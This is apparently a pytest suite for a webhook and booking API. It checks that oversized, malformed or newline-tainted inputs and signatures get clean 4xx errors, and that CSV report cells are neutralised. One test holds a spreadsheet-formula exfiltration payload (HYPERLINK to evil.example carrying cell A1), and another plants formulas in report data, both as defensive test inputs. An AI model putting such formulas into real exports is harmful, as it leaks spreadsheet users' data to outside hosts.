"""The edge, tried as an attacker would: odd sizes and shapes of input get a clear 4xx, never a
500 or a 503, and validation patterns accept no trailing newline."""

from __future__ import annotations

import json

import pytest

from tests.conftest import bearer, relay
from tests.twilio_fakes import signed, sms_form

SMS = "/webhooks/twilio/sms"
MANAGER = bearer("grace", "manager")
JSON_HEADERS = {"Content-Type": "application/json", **MANAGER}


def error_code(answer) -> str:
    return json.loads(answer.body)["error"]["code"]


def test_deeply_nested_json_is_a_400(api):
    answer = api.post("/webinars", body="[" * 5000, headers=JSON_HEADERS)
    assert answer.status_code == 400, answer.body
    assert error_code(answer) == "invalid_json"


def test_deeply_nested_json_object_is_a_400(api):
    answer = api.put("/hours", body='{"a":' * 3000 + "1" + "}" * 3000, headers=JSON_HEADERS)
    assert answer.status_code == 400, answer.body


def test_a_relay_timestamp_of_400_digits_is_refused_as_a_bad_signature(api):
    answer = api.post(
        "/webhooks/email/inbound",
        body=b"From: a@example.org\r\n\r\nhi",
        headers={
            "Content-Type": "message/rfc822",
            "X-Relay-Timestamp": "9" * 400,
            "X-Relay-Signature": "00" * 32,
        },
    )
    assert answer.status_code == 403, answer.body
    assert error_code(answer) == "bad_signature"


@pytest.mark.parametrize("header", ["Authorization", "X-Twilio-Signature", "Accept", "X-Other"])
def test_a_header_over_8_kb_is_a_431_before_any_route_reads_it(api, header):
    headers = {**MANAGER, header: "Bearer " + "a" * 9000}
    answer = api.get("/inbox", headers=headers)
    assert 400 <= answer.status_code < 500, answer.body
    assert answer.status_code == 431
    assert error_code(answer) == "header_too_large"


def test_a_huge_bearer_token_is_a_401_or_431_not_a_500(api):
    answer = api.get("/inbox", headers={"Authorization": "Bearer " + "x." * 2000})
    assert answer.status_code in (401, 431), answer.body


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("get", "/cases/{}"),
        ("get", "/contacts/{}/export"),
        ("post", "/bookings/{}/cancel"),
        ("get", "/practitioners/{}/shifts"),
        ("get", "/webinars/{}/bookings"),
    ],
)
def test_a_path_parameter_over_2_kb_is_a_404(api, method, path):
    answer = getattr(api, method)(path.format("a" * 3000), headers=MANAGER)
    assert answer.status_code == 404, answer.body


@pytest.mark.parametrize("week", ["9999-W52", "1000-W01", "0001-W01", "9999-W01"])
def test_weeks_at_the_edges_of_the_calendar_are_a_400(api, week):
    answer = api.get(f"/reports/weekly/{week}", headers=MANAGER)
    assert answer.status_code == 400, answer.body
    assert error_code(answer) == "invalid_week"


# --- header values between 2 KB and the cap reach their checks and are refused cleanly ---------


def test_a_3_kb_bearer_token_is_a_401(api):
    answer = api.get("/inbox", headers={"Authorization": "Bearer " + "x." * 1500})
    assert answer.status_code == 401, answer.body


def test_a_3_kb_twilio_signature_is_a_403(api, local_services):
    request = signed(SMS, sms_form("+4520000001", "hi"))
    request["headers"]["X-Twilio-Signature"] = "A" * 3000
    answer = api.post(SMS, **request)
    assert answer.status_code == 403, answer.body


@pytest.mark.parametrize("given", ["ä" * 64, "f" * 3000, "0" * 64 + "\n"])
def test_an_odd_relay_signature_is_a_403(api, given):
    import time

    answer = api.post(
        "/webhooks/email/inbound",
        body=b"From: a@example.org\r\n\r\nhi",
        headers={
            "Content-Type": "message/rfc822",
            "X-Relay-Timestamp": str(int(time.time())),
            "X-Relay-Signature": given,
        },
    )
    assert answer.status_code == 403, answer.body


def test_a_relay_timestamp_in_another_script_or_with_underscores_is_refused(api):
    import time

    raw = b"From: a@example.org\r\n\r\nhi"
    now = str(int(time.time()))
    for stamp in (now[:2] + "_" + now[2:], " " + now, "\u0661" + now[1:]):
        answer = relay(api, raw, stamp=stamp)
        assert answer.status_code == 403, (stamp, answer.body)


def test_a_signed_relay_message_is_still_taken(api):
    answer = relay(api, b"From: Ada <ada@example.org>\r\nSubject: hi\r\n\r\nhello there\r\n")
    assert answer.status_code == 201, answer.body


# --- a trailing newline is not part of any id, number, time or week --------------------------


def test_a_week_with_a_trailing_newline_is_a_400(api):
    answer = api.get("/reports/weekly/2026-W47%0A", headers=MANAGER)
    assert answer.status_code in (400, 404), answer.body
    from chalicelib.domain.hours import parse_iso_week

    with pytest.raises(ValueError):
        parse_iso_week("2026-W47\n")


def test_an_sms_sid_with_a_trailing_newline_is_refused(api, local_services):
    form = sms_form("+4520000001", "hi")
    form["MessageSid"] = form["SmsSid"] = form["MessageSid"] + "\n"
    answer = api.post(SMS, **signed(SMS, form))
    assert answer.status_code == 400, answer.body


def test_twilio_voice_ids_refuse_a_trailing_newline():
    from chalicelib.channels import twilio_voice
    from chalicelib.domain.errors import InvalidInput

    with pytest.raises(InvalidInput):
        twilio_voice.call_sid({"CallSid": "CA" + "0" * 32 + "\n"})
    with pytest.raises(InvalidInput):
        twilio_voice.recording(
            {"RecordingSid": "RE" + "0" * 32 + "\n", "RecordingUrl": "https://api.twilio.com/r"}
        )


@pytest.mark.parametrize(
    ("schema", "body"),
    [
        ("practitioner", {"id": "ada\n", "display_name": "Ada", "queues": ["general"]}),
        (
            "practitioner",
            {"id": "ada", "display_name": "Ada", "queues": ["general"], "phone": "+4520000001\n"},
        ),
        ("practitioner_update", {"queues": ["general\n"]}),
        ("transfer", {"queue": "general\n"}),
        ("transfer", {"practitioner_id": "ada\n"}),
        ("booking", {"phone": "+4520000001\n", "consent": True}),
        ("booking", {"email": "a@example.org\n", "consent": True}),
        ("hours", {"timezone": "Europe/Copenhagen", "weekly": {"mon": [["09:00\n", "17:00"]]}}),
    ],
)
def test_schemas_refuse_a_trailing_newline(schema, body):
    from chalicelib.channels.validation import InvalidField, json_body

    with pytest.raises(InvalidField):
        json_body(json.dumps(body), schema)
    fixed = json.loads(json.dumps(body).replace("\\n", ""))
    assert json_body(json.dumps(fixed), schema) == fixed  # the same without the newline is fine


def test_opening_hours_refuse_a_trailing_newline_in_a_time():
    from chalicelib.domain.hours import _parse_hhmm

    with pytest.raises(ValueError):
        _parse_hhmm("09:00\n")


# --- item 8: CSV cells are never formulas; Twilio's signature is checked first ----------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_report_csv_cells_never_start_a_formula(start):
    import csv
    import io

    from chalicelib.channels.report_views import as_csv

    evil = start + 'HYPERLINK("https://evil.example/?"&A1,"open")'
    rows = list(csv.reader(io.StringIO(as_csv({"week": evil, evil: 3, "delta": -2}))))
    cells = [cell for row in rows for cell in row]
    assert "'" + evil in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert ["delta", "-2"] in rows  # numbers stay numbers


def test_the_report_csv_route_neutralises_formulas(api, local_services):
    week = "2026-W47"  # ended before the test clock's day: computed once, then stored
    assert api.get(f"/reports/weekly/{week}", headers=MANAGER).status_code == 200
    figures = local_services.store.get_report(week)
    figures["practitioners"] = [{"id": "=1+1", "replies": "@SUM(A1)"}]
    local_services.store.save_report(week, figures)
    answer = api.get(f"/reports/weekly/{week}", headers={**MANAGER, "Accept": "text/csv"})
    assert answer.status_code == 200, answer.body
    text = answer.body.decode()
    assert "'=1+1" in text and "'@SUM(A1)" in text


VOICE = "/webhooks/twilio/voice"


@pytest.mark.parametrize("path", [SMS, SMS + "/status", VOICE, VOICE + "/menu"])
def test_an_unsigned_huge_twilio_body_is_a_403_not_a_413(api, local_services, path):
    from urllib.parse import urlencode

    body = urlencode(sms_form("+4520000001", "x" * 200_000))
    for headers in ({}, {"X-Twilio-Signature": "bm9wZQ=="}):
        answer = api.post(
            path,
            body=body,
            headers={"Content-Type": "application/x-www-form-urlencoded", **headers},
        )
        assert answer.status_code == 403, answer.body
        assert error_code(answer) == "bad_signature"


@pytest.mark.parametrize("path", [SMS, VOICE])
def test_an_unsigned_malformed_twilio_body_is_a_403_not_a_400(api, local_services, path):
    for body in (b"\xff\xfe%%%=&&\x00", b"MessageSid=" + b"\xc3" * 10):
        answer = api.post(
            path,
            body=body,
            headers={
                "Content-Type": "application/x-www-form-urlencoded",
                "X-Twilio-Signature": "bm9wZQ==",
            },
        )
        assert answer.status_code == 403, answer.body


def test_a_signed_twilio_body_is_still_taken_and_a_signed_huge_one_is_a_413(api, local_services):
    assert api.post(SMS, **signed(SMS, sms_form("+4520000001", "hi"))).status_code == 200
    huge = api.post(SMS, **signed(SMS, sms_form("+4520000001", "x" * 70_000)))
    assert huge.status_code == 413


def test_twilio_voice_numbers_are_ascii_and_bounded():
    from chalicelib.channels import twilio_voice
    from chalicelib.domain.errors import InvalidInput

    assert twilio_voice.parse_step("callback-\u00b2") == ("callback", "", 1, None)
    # the language a menu URL carries is one we speak, or none (the default is spoken)
    assert twilio_voice.parse_step("en.topic-2") == ("topic", "", 2, "en")
    assert twilio_voice.parse_step("xx.offer-closed-1") == ("offer", "closed", 1, None)
    assert twilio_voice.parse_step("da.en.topic-1")[3] is None
    for duration in ("9" * 400, "\u0661\u0662", "12\n"):
        with pytest.raises(InvalidInput):
            twilio_voice.call_status({"CallStatus": "completed", "CallDuration": duration})
        with pytest.raises(InvalidInput):
            twilio_voice.recording(
                {
                    "RecordingSid": "RE" + "0" * 32,
                    "RecordingUrl": "https://api.twilio.com/r",
                    "RecordingDuration": duration,
                }
            )
    assert twilio_voice.call_status({"CallStatus": "completed", "CallDuration": "65"}) == (
        "completed",
        65,
    )
